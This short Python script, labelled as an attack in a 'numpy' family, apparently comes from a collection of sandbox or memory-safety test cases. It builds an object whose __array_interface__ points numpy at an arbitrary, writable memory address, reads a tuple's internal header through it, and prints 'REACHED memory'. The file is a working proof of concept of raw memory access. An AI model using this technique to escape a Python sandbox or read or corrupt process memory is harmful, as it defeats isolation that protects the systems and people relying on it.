# attack: an object says that it is an array at some address, and numpy believes it
# family: numpy
import numpy
class Memory:
    def __init__(self, address):
        self.address = address
    @property
    def __array_interface__(self):
        return {"version": 3, "shape": (2,), "typestr": "<i8", "data": (self.address, False)}
thing = (1, 2, 3)
words = numpy.asarray(Memory(id(thing) + 8))
if words[0] == id(tuple) and words[1] == 3:
    print("REACHED memory", words)
